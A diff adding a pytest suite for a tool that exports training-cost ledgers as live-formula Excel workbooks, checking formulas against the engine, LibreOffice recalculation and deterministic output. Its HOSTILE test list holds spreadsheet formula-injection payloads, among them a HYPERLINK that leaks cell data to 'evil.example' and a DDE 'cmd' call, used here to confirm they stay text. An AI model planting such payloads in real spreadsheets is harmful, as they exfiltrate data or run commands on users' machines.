@@ -1,0 +1,781 @@
+"""The live-formula workbook (issue 3, CONTRACT section 5): formulas generated from the registry,
+cached values equal to the engine's, LibreOffice's own recalculation equal to the engine's,
+hostile text kept as text, deterministic bytes, a template that is itself a valid input."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import math
+import os
+import re
+import shutil
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from openpyxl.utils import FORMULAE
+
+from ledger_report.config import COLUMN_NAMES, COLUMNS, ENUM
+from ledger_report.engine import compute, config_from_mapping
+from ledger_report.model import formula as fx
+from ledger_report.model.definitions import REGISTRY
+from ledger_report.model.expr import Col, Const, If, IsBlank
+from ledger_report.render import workbook as wbk
+from ledger_report.render.workbook import (
+    INPUTS,
+    LEDGER_FIRST_ROW,
+    LEDGERS,
+    QUANTITY_LETTERS,
+    SUMMARY,
+    render_xlsx,
+    sheet_title,
+    template_xlsx,
+)
+
+ROOT = Path(__file__).resolve().parents[1]
+
+ARCH_8B = dict(layers=32, hidden=4096, heads=32, kv_heads=8, ffn_hidden=14336, vocab=128256)
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=1+1",
+    "#N/A",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "=cmd|' /C calc'!A0",
+    '=1+2";=1+2',
+    "#DIV/0!",
+)
+
+# One row per situation the formulas must get right (names say which).
+CONFIGS: list[dict] = [
+    dict(ARCH_8B, name="dense-8b-zero1", notes="seed 004-like dense row", dp=8, zero=1, seq_len=8192,
+         global_batch=512, tokens=1_000_000_000_000, days=30, price_per_gpu_hour=2.5),
+    dict(name="moe-pp4-megatron-full", layers=48, hidden=4096, heads=32, kv_heads=4, ffn_hidden=12288,
+         vocab=151936, experts=128, topk=8, moe_ffn_hidden=1536, framework="megatron", grad_dtype="fp32",
+         dp=32, tp=2, pp=4, ep=8, zero=1, recompute="full", sequence_parallel=True, seq_len=4096,
+         global_batch=1024, tokens=20_000_000_000_000, days=60, reserve_days=5, price_per_gpu_hour=2.0),
+    dict(name="tied-deepspeed-z3-adafactor-no-tokens", layers=24, hidden=2048, heads=16, ffn_hidden=5632,
+         vocab=32000, tied_embeddings=True, norm="layernorm", qk_norm=True, framework="deepspeed", zero=3,
+         dp=64, optimizer="adafactor", flash_attention=False, seq_len=2048, global_batch=512),
+    dict(name="params-only-offload-adam8bit", params_total=70_000_000_000, dp=16, tp=8, zero=2,
+         optimizer="adam8bit", optimizer_at="host", master_at="nvme", gpu="H200", mfu=0.35,
+         tokens=1_000_000_000_000, days=90, price_per_gpu_hour=3.0),
+    dict(name="moe-split-from-params-per-rank", params_total=35_000_000_000, params_per_rank=8_000_000_000,
+         params_active=3_000_000_000, ep=8, dp=8, zero=1, measured_peak_gb=70.5,
+         tokens=500_000_000_000, days=20, global_batch=256, seq_len=4096),
+    dict(ARCH_8B, name="hybrid-cp2-selective-fp32-lion", full_attention_every=4, cp=2, recompute="selective",
+         seq_len=32768, weight_dtype="fp32", grad_dtype="fp32", optimizer="lion", logits_dtype="bf16",
+         loss_chunks=4, micro_batch=2, global_batch=256, dp=4, gpu="B200", tokens=200_000_000_000, days=14),
+    dict(name="sgd-fp16-pp4-uneven", layers=30, hidden=2560, heads=20, ffn_hidden=10240, vocab=50000, glu=False,
+         pp=4, optimizer="sgd", weight_dtype="fp16", grad_dtype="fp16", main_grad_dtype="fp32", dp=2,
+         seq_len=2048, global_batch=64, micro_batch=4, tokens=300_000_000_000, days=10, reserve_days=1),
+    dict(name="模型甲/7b:[draft]", params_total=7_000_000_000, dp=8, zero=3, tokens=100_000_000_000,
+         days=7, price_per_gpu_hour=1.0),
+] + [
+    dict(name=text, notes=HOSTILE[(i + 1) % len(HOSTILE)], params_total=1_000_000_000 * (i + 1), dp=2)
+    for i, text in enumerate(HOSTILE)
+]
+
+
+def _ledgers(configs=CONFIGS):
+    return [compute(config_from_mapping(c)) for c in configs]
+
+
+@pytest.fixture(scope="module")
+def ledgers():
+    return _ledgers()
+
+
+@pytest.fixture(scope="module")
+def built(ledgers) -> bytes:
+    return render_xlsx(ledgers)
+
+
+@pytest.fixture(scope="module")
+def built_path(built, tmp_path_factory) -> Path:
+    p = tmp_path_factory.mktemp("wb") / "built.xlsx"
+    p.write_bytes(built)
+    return p
+
+
+def _load(data: bytes, **kw):
+    return openpyxl.load_workbook(io.BytesIO(data), **kw)
+
+
+def _same(expected, got) -> bool:
+    """Engine value vs spreadsheet value: blanks equal None (or ""), numbers to rel 1e-9."""
+    if got == "":
+        got = None
+    if expected is None or got is None:
+        return expected is None and got is None
+    if isinstance(expected, bool) or isinstance(got, bool):
+        return isinstance(got, bool) and isinstance(expected, bool) and expected == got
+    if isinstance(expected, str) or isinstance(got, str):
+        return str(expected) == str(got)
+    return math.isclose(expected, got, rel_tol=1e-9, abs_tol=1e-6)
+
+
+def _gb(v):
+    return None if v is None else v / 1e9
+
+
+def _ledger_mismatches(ws, ledgers, rows=None) -> list[str]:
+    out = []
+    for i, led in enumerate(ledgers):
+        r = LEDGER_FIRST_ROW + (i if rows is None else rows[i])
+        if ws[f"A{r}"].value != led.name:
+            out.append(f"row {r}: name {ws[f'A{r}'].value!r} != {led.name!r}")
+        for key, v in led.values.items():
+            got = ws[f"{QUANTITY_LETTERS[key]}{r}"].value
+            if not _same(v, got):
+                out.append(f"{led.name} {key}: engine {v!r}, workbook {got!r}")
+    return out
+
+
+# ------------------------------------------------------------------------------------------
+# Formulas from the registry
+
+
+def _layout():
+    return wbk._layout()
+
+
+def test_guards_use_the_registry_needs():
+    """The spreadsheet blank analysis is the registry's: needs_of(expr) == Quantity.needs for all."""
+    for q in REGISTRY:
+        assert fx.needs_of(REGISTRY, q.expr) == q.needs, q.key
+
+
+def test_every_quantity_has_a_formula_within_excel_limits():
+    """227 templates, each under Excel's 8,192-character formula limit, using only allowed functions."""
+    templates = fx.compile_registry(REGISTRY, _layout())
+    assert list(templates) == REGISTRY.keys()
+    for key, t in templates.items():
+        text = t.fill(2, 3)
+        assert len(text) < 8192, key
+        assert fx.functions_used(text) <= fx.FUNCTIONS, (key, text)
+        assert "\x01" not in text and "\x02" not in text
+
+
+@pytest.mark.parametrize(
+    "value, text",
+    [(10**9, "1000000000"), (1e9, "1000000000"), (1.5e22, "1.5E+22"), (1e-05, "1E-05"), (0.05, "0.05"),
+     (8 / 6, "1.3333333333333333"), (10**16, "1E+16"), (-3, "-3"), (True, "TRUE")],
+    ids=["int", "float-int", "big", "small", "decimal", "ratio", "huge-int", "negative", "bool"],
+)
+def test_number_literals(value, text):
+    """Literals as 1E+9 or plain integers, never 1e9 (the formulas parser rejects it; ecosystem.md 3.1)."""
+    assert fx.number(value) == text
+
+
+def test_string_literals_double_quotes():
+    assert fx.string('say "hi"') == '"say ""hi"""'
+
+
+def test_blank_in_a_taken_branch_is_blank_not_an_error():
+    """Python: If(c, x*2, 0) with x blank gives None, so the branch is guarded on its own; and a
+    conditional inside MAX hoists its branch's blank test into the guard (MAX(1,"") is #VALUE!)."""
+    from ledger_report.model.registry import COUNT, Registry
+
+    reg = Registry()
+    x = reg.define("x", Col("dp"), COUNT, "x", "x")
+    c = reg.define("c", IsBlank(Col("tp")), COUNT, "c", "c")
+    reg.define("y", If(c, x * 2, Const(0)), COUNT, "y", "y")
+    reg.define("z", fx_max(1, If(c, x * 2, Const(0))), COUNT, "z", "z")
+    lay = fx.Layout("Inputs", {"dp": "A", "tp": "B"}, {"x": "C", "c": "D", "y": "E", "z": "F"}, {})
+    t = fx.compile_registry(reg, lay)
+    assert t["y"].fill(2, 3) == 'IF(D3,IF(C3="","",C3*2),0)'
+    assert t["z"].fill(2, 3) == 'IF(IF(D3,C3="",FALSE),"",MAX(1,IF(D3,C3*2,0)))'
+    assert t["x"].fill(2, 3) == 'IF(Inputs!A2="","",Inputs!A2)'  # an empty cell reads as 0, not blank
+
+
+def test_engine_rounds_and_compares_like_the_spreadsheet():
+    """CEIL/FLOOR round to 15 significant digits first and near-equal numbers compare equal, as
+    LibreOffice does (found by the random sweep below: 1706433408 x 4 x 7051776 / 13651467264 is
+    3525888.0000000005 in floating point; Python's ceil gave 3525889, the workbook 3525888)."""
+    import numpy as np
+
+    from ledger_report.model.evaluate import evaluate_arrays, evaluate_row
+    from ledger_report.model.expr import ceil, floor
+    from ledger_report.model.registry import BOOL, COUNT, Registry
+
+    reg = Registry()
+    x = reg.define("x", Col("dp"), COUNT, "x", "x")
+    reg.define("up", ceil(x * (4 * 7051776 / 13651467264)), COUNT, "up", "up")
+    reg.define("down", floor(x * 0.1 * 3 / 0.3 / 1706433408 * 7), COUNT, "down", "down")
+    reg.define("same", (x * 0.1 + x * 0.2).eq(x * 0.3), BOOL, "same", "same")
+    reg.define("big", ceil(x * 2000 + 2**-11 * 0 + 0.5), COUNT, "big", "big")
+    v = evaluate_row(reg, {"dp": 1706433408}, {})
+    assert v["up"] == 3525888
+    assert v["down"] == 7
+    assert v["same"] is True
+    arr = evaluate_arrays(reg, {"dp": np.array([1706433408, 1706433408])}, {})
+    assert list(arr["up"]) == [3525888, 3525888] and list(arr["same"]) == [True, True]
+    assert list(arr["down"]) == [7, 7] and list(arr["big"]) == [v["big"]] * 2
+
+
+def fx_max(*xs):
+    from ledger_report.model.expr import maximum
+
+    return maximum(*xs)
+
+
+# ------------------------------------------------------------------------------------------
+# The workbook without a spreadsheet engine
+
+
+def test_sheets_and_layout(built, ledgers):
+    """Summary first, Inputs, Ledgers, one print sheet per configuration, Help, lookups."""
+    wb = _load(built)
+    names = wb.sheetnames
+    assert names[:3] == [SUMMARY, INPUTS, LEDGERS]
+    assert names[-5:] == ["Dtypes", "Moments", "Optimizers", "GPUs", "Lists"]
+    print_sheets = names[3:-6]
+    assert len(print_sheets) == len(ledgers)
+    assert len(set(n.casefold() for n in names)) == len(names)
+    for n in print_sheets:
+        assert len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n)
+    ws = wb[INPUTS]
+    assert [c.value for c in ws[1]] == list(COLUMN_NAMES)
+    led = wb[LEDGERS]
+    assert led["A1"].value == "name"
+    assert [led.cell(1, j).value for j in range(2, 2 + len(REGISTRY))] == REGISTRY.keys()
+    assert led.freeze_panes == "B3"
+
+
+def test_every_computed_cell_is_a_formula(built, ledgers):
+    """Ledgers and Summary data cells are all formulas (shared formulas read back per cell)."""
+    wb = _load(built)
+    led = wb[LEDGERS]
+    for r in range(LEDGER_FIRST_ROW, LEDGER_FIRST_ROW + len(ledgers)):
+        for j in range(1, 2 + len(REGISTRY)):
+            c = led.cell(r, j)
+            assert c.data_type == "f", (c.coordinate, c.value)
+    summ = wb[SUMMARY]
+    for row in summ.iter_rows(min_row=2, max_row=1 + len(ledgers)):
+        for c in row:
+            if c.value is not None:
+                assert c.data_type == "f", c.coordinate
+    # the formula of a later row is the first row's, moved down (relative references)
+    key = "peak_bytes_per_rank"
+    col = QUANTITY_LETTERS[key]
+    f3 = led[f"{col}3"].value
+    f5 = led[f"{col}5"].value
+    assert f3 != f5 and re.sub(r"\d+", "#", f3) == re.sub(r"\d+", "#", f5)
+
+
+def test_functions_are_libreoffice_74_and_excel_safe(built):
+    """(e) Every function used is in openpyxl's FORMULAE (no _xlfn. prefix needed) and in the set
+    LibreOffice 7.4 evaluates; no XLOOKUP/LET/SEQUENCE/FILTER; no 1e9-style literals."""
+    allowed = fx.FUNCTIONS | {"SUBSTITUTE"}
+    wb = _load(built)
+    seen: set[str] = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type != "f":
+                    continue
+                text = str(c.value)
+                used = fx.functions_used(text)
+                seen |= used
+                assert used <= allowed, (ws.title, c.coordinate, used - allowed)
+                assert "_xlfn" not in text.lower()
+                bare = re.sub(r'"(?:[^"]|"")*"', '""', text)
+                assert not re.search(r"\d[eE]\d", bare), (c.coordinate, text)
+    assert seen <= set(FORMULAE)
+    assert {"INDEX", "MATCH", "IF", "CEILING"} <= seen
+
+
+def test_cached_values_are_the_engine_values(built, ledgers):
+    """(c) openpyxl data_only sees the engine's numbers in every Ledgers cell, blanks as None."""
+    wb = _load(built, data_only=True)
+    assert _ledger_mismatches(wb[LEDGERS], ledgers) == []
+    summ = wb[SUMMARY]
+    headers = [c.value for c in summ[1]]
+    col = {h: i for i, h in enumerate(headers)}
+    for i, led in enumerate(ledgers):
+        row = [c.value for c in summ[2 + i]]
+        assert row[0] == led.name
+        assert _same(_gb(led["peak_bytes_per_rank"]), row[col["peak GB per rank"]])
+        assert _same(_gb(led["state_bytes_per_rank"]), row[col["state GB per rank (HBM)"]])
+        assert _same(led["fits"], row[col["fits"]])
+        assert _same(led["min_gpus_compute"], row[col["min GPUs (compute gate)"]])
+        assert _same(led["cost"], row[col["cost"]])
+
+
+def test_every_formula_cell_carries_a_value(built):
+    """No formula cell is left with an empty <v/> (pandas, previews and LibreOffice show cached values)."""
+    with zipfile.ZipFile(io.BytesIO(built)) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                xml = z.read(name).decode()
+                assert "<v />" not in xml and "<v/>" not in xml, name
+                for body in re.findall(r"<c [^>]*[^/]>(.*?)</c>", xml):
+                    if body.startswith("<f"):
+                        assert "<v>" in body, (name, body[:200])
+
+
+def test_pandas_reads_the_numbers(built_path, ledgers):
+    """(c) pandas.read_excel (openpyxl underneath, no calculation) sees the engine's figures."""
+    pd = pytest.importorskip("pandas")
+    # keep_default_na=False: pandas would read a model named "#N/A" as NaN (reliability.md 0.3)
+    summ = pd.read_excel(built_path, sheet_name=SUMMARY, keep_default_na=False, na_values=[""])
+    assert list(summ["name"]) == [l.name for l in ledgers]
+    for i, led in enumerate(ledgers):
+        if led["peak_bytes_per_rank"] is None:
+            assert pd.isna(summ["peak GB per rank"][i])
+        else:
+            assert math.isclose(summ["peak GB per rank"][i], led["peak_bytes_per_rank"] / 1e9, rel_tol=1e-12)
+        assert math.isclose(summ["HBM GB"][i], led["hbm_bytes"] / 1e9, rel_tol=1e-12)
+    led_df = pd.read_excel(built_path, sheet_name=LEDGERS, skiprows=[1], keep_default_na=False, na_values=[""])
+    for i, led in enumerate(ledgers):
+        assert led_df["name"][i] == led.name
+        for key in ("peak_bytes_per_rank", "params_total", "flops_per_token", "state_bytes_logical_total"):
+            if led[key] is None:
+                assert pd.isna(led_df[key][i]), key
+            else:
+                assert math.isclose(led_df[key][i], led[key], rel_tol=1e-12), key
+    blank = next(i for i, l in enumerate(ledgers) if l["total_flops"] is None)
+    assert pd.isna(led_df["total_flops"][blank])
+
+
+def test_hostile_text_stays_text(built, ledgers):
+    """(d) INJ-01/02: names and notes starting with = + - @ or equal to #N/A are text cells with
+    the quote prefix, never formulas or error values; the Ledgers name column shows them verbatim."""
+    wb = _load(built)
+    ws = wb[INPUTS]
+    seen = 0
+    for r in range(2, 2 + len(ledgers)):
+        for col in ("A", "B"):
+            c = ws[f"{col}{r}"]
+            if c.value in HOSTILE:
+                seen += 1
+                assert c.data_type == "s", (c.coordinate, c.value)
+                assert c.quotePrefix, c.coordinate
+    assert seen == 2 * len(HOSTILE)
+    with zipfile.ZipFile(io.BytesIO(built)) as z:
+        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert 't="e"' not in xml
+    formulas = re.findall(r"<f(?: [^>]*[^/])?>(.*?)</f>", xml)
+    assert formulas and not any("HYPERLINK" in f or "cmd|" in f for f in formulas)
+    data = _load(built, data_only=True)[LEDGERS]
+    names = [data[f"A{LEDGER_FIRST_ROW + i}"].value for i in range(len(ledgers))]
+    assert names == [l.name for l in ledgers]
+
+
+def test_identical_bytes_on_rebuild(built, ledgers):
+    """(f) DET-01: same input, same bytes; also across processes with different hash seeds."""
+    assert render_xlsx(ledgers) == built
+    code = (
+        "import json,sys,hashlib\n"
+        "from ledger_report.engine import compute, config_from_mapping\n"
+        "from ledger_report.render.workbook import render_xlsx\n"
+        "cs=json.load(sys.stdin)\n"
+        "print(hashlib.sha256(render_xlsx([compute(config_from_mapping(c)) for c in cs])).hexdigest())\n"
+    )
+    digests = set()
+    for seed in ("1", "2"):
+        env = dict(os.environ, PYTHONHASHSEED=seed, PYTHONPATH=str(ROOT))
+        out = subprocess.run([sys.executable, "-c", code], input=json.dumps(CONFIGS), capture_output=True,
+                             text=True, env=env, check=True)
+        digests.add(out.stdout.strip())
+    assert digests == {hashlib.sha256(built).hexdigest()}
+
+
+def test_fixed_document_properties(built):
+    """DET-02: fixed creator and dates, no lastModifiedBy."""
+    with zipfile.ZipFile(io.BytesIO(built)) as z:
+        core = z.read("docProps/core.xml").decode()
+        infos = z.infolist()
+    assert "2000-01-01T00:00:00Z" in core
+    assert "lastModifiedBy" not in core
+    assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in infos)
+
+
+def test_built_workbook_is_a_valid_input(built_path, ledgers):
+    """CONTRACT 5: read_configs reads the built workbook back (Inputs only) to the same figures."""
+    from ledger_report.inputs import read_configs
+
+    back = read_configs(built_path)
+    assert [c.name for c in back] == [l.name for l in ledgers]
+    for cfg, led in zip(back, ledgers):
+        again = compute(cfg)
+        for key, v in led.values.items():
+            assert _same(v, again[key]), (led.name, key, v, again[key])
+
+
+def test_inputs_keep_blanks_and_types(built, ledgers):
+    """Blank stays blank (defaults resolve by formula); counts are numbers; booleans are booleans."""
+    ws = _load(built)[INPUTS]
+    col = {name: i + 1 for i, name in enumerate(COLUMN_NAMES)}
+    moe = next(i for i, c in enumerate(CONFIGS) if c["name"] == "moe-pp4-megatron-full")
+    r = 2 + moe
+    assert ws.cell(r, col["kv_heads"]).value == 4
+    assert ws.cell(r, col["head_dim"]).value is None
+    assert ws.cell(r, col["sequence_parallel"]).value is True
+    assert ws.cell(r, col["tokens"]).value == 20_000_000_000_000
+    assert ws.cell(r, col["framework"]).data_type == "s"
+
+
+def test_dropdowns_for_every_enumerated_column(built):
+    """Every enumerated input has a list validation fed from a lookup sheet (a defined name)."""
+    wb = _load(built)
+    ws = wb[INPUTS]
+    by_col = {}
+    for dv in ws.data_validations.dataValidation:
+        for rng in dv.sqref.ranges:
+            by_col[rng.min_col] = dv
+    for j, col in enumerate(COLUMNS, start=1):
+        if col.kind == ENUM:
+            dv = by_col[j]
+            assert dv.type == "list", col.name
+            name = dv.formula1.lstrip("=")
+            assert name in wb.defined_names, (col.name, name)
+            dest = list(wb.defined_names[name].destinations)
+            sheet, rng = dest[0]
+            values = [c.value for row in wb[sheet][rng.replace("$", "")] for c in row]
+            if col.choices:
+                assert values == list(col.choices), col.name
+
+
+def test_print_sheets_are_a4_landscape_one_page(built, ledgers):
+    """One sheet per configuration (<= 50): A4 landscape, fit to one page, name in the header."""
+    wb = _load(built)
+    for i, led in enumerate(ledgers):
+        ws = wb.worksheets[3 + i]
+        assert ws.page_setup.orientation == "landscape"
+        assert int(ws.page_setup.paperSize) == 9
+        assert ws.sheet_properties.pageSetUpPr.fitToPage
+        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 1
+        assert ws.oddHeader.center.text == led.name.replace("&", "&&")[:120]
+        assert ws.print_area
+
+
+@pytest.mark.parametrize(
+    "name, title",
+    [("llama/7b", "llama_7b"), ("a" * 40, "a" * 31), ("History", "History (2)"), ("'x'", "x"),
+     ("模型甲", "模型甲"), ("Summary", "Summary (2)"), ("[a]:b*?", "_a__b__"), ("", "config")],
+    ids=["slash", "long", "reserved", "quotes", "cjk", "clash", "brackets", "empty"],
+)
+def test_sheet_titles(name, title):
+    """INJ-05: sanitised, <= 31 characters, unique, never a reserved name."""
+    assert sheet_title(name, wbk.RESERVED_TITLES) == title
+
+
+def test_sheet_titles_unique_after_truncation():
+    taken = set(wbk.RESERVED_TITLES)
+    titles = []
+    for _ in range(3):
+        t = sheet_title("x" * 40, taken)
+        taken.add(t)
+        titles.append(t)
+    assert titles == ["x" * 31, "x" * 27 + " (2)", "x" * 27 + " (3)"]
+
+
+def test_many_configurations_use_one_chosen_ledger_sheet():
+    """Above 50 configurations: no per-configuration sheets, one Ledger sheet with a dropdown."""
+    configs = [dict(name=f"c{i}", params_total=10**9 * (1 + i), dp=1 + i % 4) for i in range(51)]
+    data = render_xlsx(_ledgers(configs))
+    wb = _load(data)
+    assert "Ledger" in wb.sheetnames and len(wb.sheetnames) == 10
+    ws = wb["Ledger"]
+    assert ws["B3"].value == "c0"
+    assert ws.data_validations.dataValidation[0].formula1.endswith(f"$A${LEDGER_FIRST_ROW + 50}")
+    vals = _load(data, data_only=True)["Ledger"]
+    assert vals["C3"].value == 1
+
+
+def test_template_workbook():
+    """`ledger-report template`: the CONTRACT columns with help comments, dropdowns, an example row
+    that read_configs accepts, a Help sheet, deterministic bytes."""
+    data = template_xlsx()
+    assert data == template_xlsx()
+    wb = _load(data)
+    assert wb.sheetnames[0] == INPUTS and "Help" in wb.sheetnames and LEDGERS not in wb.sheetnames
+    ws = wb[INPUTS]
+    assert [c.value for c in ws[1]] == list(COLUMN_NAMES)
+    for c in ws[1]:
+        assert c.comment is not None and c.comment.text
+    assert "default: 0.4" in ws["A1"].offset(0, COLUMN_NAMES.index("mfu")).comment.text
+    assert len(ws.data_validations.dataValidation) >= sum(1 for c in COLUMNS if c.kind == ENUM)
+    import tempfile
+
+    from ledger_report.inputs import read_configs
+
+    with tempfile.TemporaryDirectory() as tmp:
+        p = Path(tmp) / "template.xlsx"
+        p.write_bytes(data)
+        configs = read_configs(p)
+    assert [c.name for c in configs] == [wbk.EXAMPLE_ROW["name"]]
+    led = compute(configs[0])
+    assert led["peak_bytes_per_rank"] > 0 and led["fits"] is True
+
+
+def test_control_characters_are_refused():
+    """INJ-06: a control character in user text is a clear error, not openpyxl's traceback."""
+    led = compute(config_from_mapping(dict(name="bad\x07name", params_total=10**9)))
+    with pytest.raises(ValueError, match="U\\+0007"):
+        render_xlsx([led])
+
+
+# ------------------------------------------------------------------------------------------
+# LibreOffice: a real spreadsheet engine, forced to recalculate everything
+
+# These run wherever the suite runs (never skipped): without LibreOffice they fail and say so;
+# deselect them with -m "not slow" on a machine that has none.
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+
+
+def _recalc(data: bytes) -> bytes:
+    if SOFFICE is None:
+        pytest.fail("LibreOffice (soffice) is required: scripts/setup.sh installs libreoffice-calc-nogui")
+    return wbk.recalculate_with_libreoffice(data, soffice=SOFFICE)
+
+
+_FORMULA_CELL = re.compile(r'(<c [^>]*?)( t="(?:str|b)")?>(<f>.*?</f>|<f [^>]*?/>|<f [^>]*?[^/]>.*?</f>)<v>[^<]*</v></c>')
+
+
+def _poison(m: re.Match) -> str:
+    t = m.group(2) or ""
+    wrong = {' t="b"': "0", ' t="str"': "stale"}.get(t, "-1")
+    return f"{m.group(1)}{t}>{m.group(3)}<v>{wrong}</v></c>"
+
+
+def _poisoned(data: bytes) -> bytes:
+    """The workbook with every formula's cached value wrong (-1, "stale", FALSE; the type kept):
+    what LibreOffice returns after the recalculation is then its own result, never an echo."""
+    src = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            body = src.read(info)
+            if info.filename.startswith("xl/worksheets/sheet"):
+                text, n = _FORMULA_CELL.subn(_poison, body.decode())
+                assert n or not re.search(r"<f[ >]", text), info.filename
+                body = text.encode()
+            dst.writestr(info, body)
+    return out.getvalue()
+
+
+@pytest.fixture(scope="module")
+def recalculated(built) -> bytes:
+    return _recalc(_poisoned(built))
+
+
+def _formula_cells(data: bytes):
+    """{(sheet, coordinate): cached value} of every formula cell of a workbook."""
+    formulas = _load(data)
+    values = _load(data, data_only=True)
+    out = {}
+    for ws in formulas.worksheets:
+        vs = values[ws.title]
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type == "f":
+                    out[(ws.title, c.coordinate)] = vs[c.coordinate].value
+    return out
+
+
+@pytest.mark.slow
+def test_libreoffice_recalculation_equals_the_engine(recalculated, built, ledgers):
+    """(a) After a forced full recalculation in LibreOffice 7.4, every Ledgers figure equals the
+    engine's value (rel 1e-9, blanks None), and every other formula cell (Summary, the printable
+    ledgers) equals the value the workbook carried."""
+    wb = _load(recalculated, data_only=True)
+    assert _ledger_mismatches(wb[LEDGERS], ledgers) == []
+    cached = _formula_cells(built)
+    bad = []
+    for (sheet, coord), v in cached.items():
+        got = wb[sheet][coord].value
+        if not _same(v, got):
+            bad.append((sheet, coord, v, got))
+    assert bad == []
+
+
+@pytest.mark.slow
+def test_libreoffice_reopens_without_errors(recalculated):
+    """(g) No error value anywhere after LibreOffice's recalculation (#VALUE!, #NAME?, Err:…)."""
+    wb = _load(recalculated, data_only=True)
+    errors = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type == "e" or (isinstance(c.value, str) and c.value.startswith("Err:")):
+                    errors.append((ws.title, c.coordinate, c.value))
+    assert errors == []
+    # hostile text is still text after LibreOffice saved it
+    ws = _load(recalculated)[INPUTS]
+    names = {ws[f"A{r}"].value for r in range(2, 2 + len(CONFIGS))}
+    assert set(HOSTILE) <= names
+
+
+@pytest.mark.slow
+def test_edited_inputs_recalculate_to_the_engine(built, ledgers):
+    """(b) Edit dp, a dtype and mfu of one row with openpyxl, recalculate in LibreOffice: that row's
+    figures equal the engine on the edited configuration, the other rows are unchanged."""
+    i = next(k for k, c in enumerate(CONFIGS) if c["name"] == "moe-pp4-megatron-full")
+    changes = dict(dp=16, weight_dtype="fp16", m_dtype="bf16", mfu=0.55)
+    wb = _load(built)
+    ws = wb[INPUTS]
+    col = {name: j + 1 for j, name in enumerate(COLUMN_NAMES)}
+    for key, v in changes.items():
+        ws.cell(2 + i, col[key]).value = v
+    buf = io.BytesIO()
+    wb.save(buf)
+    out = _load(_recalc(buf.getvalue()), data_only=True)
+    edited = compute(config_from_mapping(dict(CONFIGS[i], **changes)))
+    assert edited["peak_bytes_per_rank"] != ledgers[i]["peak_bytes_per_rank"]
+    expect = list(ledgers)
+    expect[i] = edited
+    assert _ledger_mismatches(out[LEDGERS], expect) == []
+    summ = out[SUMMARY]
+    assert _same(_gb(edited["peak_bytes_per_rank"]), summ.cell(2 + i, 3).value)
+    assert _same(edited["days_on_config"], summ.cell(2 + i, 11).value)
+
+
+@pytest.mark.slow
+def test_chosen_ledger_sheet_follows_the_dropdown():
+    """Above 50 configurations the Ledger sheet shows the configuration named in B3: choose another
+    name, recalculate, and its figures are that configuration's."""
+    configs = [dict(name=f"c{i}", params_total=10**9 * (1 + i), dp=1 + i % 4, tokens=10**11, days=5)
+               for i in range(51)]
+    configs[7]["name"] = "pick*me?"  # wildcards in MATCH are escaped
+    leds = _ledgers(configs)
+    wb = _load(render_xlsx(leds))
+    ws = wb["Ledger"]
+    ws["B3"].value = "pick*me?"
+    buf = io.BytesIO()
+    wb.save(buf)
+    out = _load(_recalc(buf.getvalue()), data_only=True)["Ledger"]
+    assert out["C3"].value == 8
+    assert out["A2"].value == "pick*me?"
+    found = {c.value for row in out.iter_rows() for c in row if isinstance(c.value, (int, float))}
+    assert any(math.isclose(x, leds[7]["params_total"]) for x in found)
+
+
+def _random_configs(seed: int, n: int) -> list[dict]:
+    """n varied rows (valid divisibility), deterministic: a sweep over the switches the formulas
+    branch on."""
+    import random
+
+    rng = random.Random(seed)
+    out = []
+    for i in range(n):
+        tp = rng.choice([1, 2, 4, 8])
+        dp = rng.choice([1, 2, 3, 4, 6, 8, 16, 64, 128])
+        cp = rng.choice([1, 1, 2])
+        c: dict = {"name": f"r{i}", "dp": dp, "cp": cp}
+        if rng.random() < 0.75:
+            heads = rng.choice([16, 32, 64, 96])
+            if heads % tp:
+                tp = 1
+            kv = rng.choice([k for k in (1, 2, 4, 8, heads) if heads % k == 0 and k % tp == 0] or [heads])
+            hidden = heads * rng.choice([64, 96, 128])
+            c.update(layers=rng.choice([12, 30, 32, 61, 94]), hidden=hidden, heads=heads, kv_heads=kv,
+                     ffn_hidden=int(hidden * rng.choice([2.6875, 3.5, 4])), vocab=rng.choice([32000, 50257, 151936]),
+                     seq_len=rng.choice([2048, 4096, 32768]))
+            c["pp"] = min(rng.choice([1, 1, 2, 3, 4, 8]), c["layers"])
+            if rng.random() < 0.4:
+                e = rng.choice([8, 64, 256])
+                ep = rng.choice([k for k in (1, 2, 4, 8) if (dp * cp * tp) % k == 0 and e % k == 0])
+                c.update(experts=e, topk=min(e, rng.choice([1, 2, 8])), moe_ffn_hidden=rng.choice([768, 1408]),
+                         shared_expert_ffn=rng.choice([0, 2048]), moe_every=rng.choice([1, 2]), ep=ep)
+            for k in ("glu", "tied_embeddings", "qk_norm", "flash_attention"):
+                if rng.random() < 0.3:
+                    c[k] = rng.random() < 0.5
+            if rng.random() < 0.3 and c["seq_len"] % (tp * cp) == 0:
+                c["sequence_parallel"] = True
+            if rng.random() < 0.2:
+                c["norm"] = "layernorm"
+            if rng.random() < 0.2:
+                c["full_attention_every"] = rng.choice([2, 4])
+        else:
+            c["params_total"] = rng.choice([7 * 10**9, 70 * 10**9, 123456789012, 1_500_000_000_000])
+            c["pp"] = rng.choice([1, 2, 4])
+            ep = rng.choice([k for k in (2, 4, 8) if (dp * cp * tp) % k == 0] or [1])
+            if ep > 1 and ep != tp and rng.random() < 0.5:
+                c.update(ep=ep, params_per_rank=int(c["params_total"] / rng.choice([3, 7.5, 11]) / tp))
+        c["tp"] = tp
+        fw = rng.choice(["generic", "megatron", "deepspeed"])
+        c["framework"] = fw
+        c["zero"] = rng.choice([0, 1, 3] if fw == "megatron" else [0, 1, 2, 3])
